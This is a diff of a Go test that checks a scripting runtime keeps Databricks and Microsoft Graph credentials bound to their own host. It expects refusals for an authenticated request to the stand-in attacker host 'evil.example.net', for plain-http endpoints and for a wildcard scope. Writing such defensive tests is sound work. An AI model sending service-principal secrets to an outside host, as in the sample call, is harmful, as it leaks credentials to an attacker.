@@ -13,23 +13,23 @@ import (
 // sent, a Graph token never goes over http, and setScope refuses a wildcard
 // over a public suffix. Nothing reaches another host or http://.
 func TestCredentialsStayWithTheirHost(t *testing.T) {
-	c := newCloud(t, emulator.Config{Groups: 5})
-	c.loginApp(t, "reader-app")
-	sp := c.world.Databricks.ServicePrincipal
+	h := newHarness(t, emulated(emulator.Config{Groups: 5}))
+	h.loginApp("reader-app")
+	sp := h.world.Databricks.ServicePrincipal
 	d := fmt.Sprintf(`databricks({flow: "m2m", clientId: %q, clientSecret: %q})`, sp.ClientID, sp.ClientSecret)
 	for src, code := range map[string]string{
 		d + `.get("https://evil.example.net/api/2.0/clusters/list")`:                                                                                       "REFUSED",
-		d + `.get("http://` + c.world.Databricks.Host + `/api/2.0/clusters/list")`:                                                                         "REFUSED",
-		fmt.Sprintf(`databricks({host: "http://%s", flow: "m2m", clientId: %q, clientSecret: %q})`, c.world.Databricks.Host, sp.ClientID, sp.ClientSecret): "REFUSED",
+		d + `.get("http://` + h.world.Databricks.Host + `/api/2.0/clusters/list")`:                                                                         "REFUSED",
+		fmt.Sprintf(`databricks({host: "http://%s", flow: "m2m", clientId: %q, clientSecret: %q})`, h.world.Databricks.Host, sp.ClientID, sp.ClientSecret): "REFUSED",
 		`http.get("http://graph.microsoft.com/v1.0/groups")`:                                                                                               "REFUSED",
 		`graph.get("http://graph.microsoft.com/v1.0/groups")`:                                                                                              "REFUSED",
 		`http.setScope("*.com", "https://graph.microsoft.com/.default")`:                                                                                   "BAD_ARGUMENT",
 	} {
-		if e := jsFields(t, c.rt, src); e["code"] != code {
+		if e := h.thrown(src); e["code"] != code {
 			t.Errorf("%s: %v, want %s", src, e, code)
 		}
 	}
-	for _, e := range c.http.Trace() {
+	for _, e := range h.http.Trace() {
 		if strings.Contains(e.URL, "evil.example.net") || strings.HasPrefix(e.URL, "http://") {
 			t.Errorf("exchange %d went to %s", e.Index, e.URL)
 		}
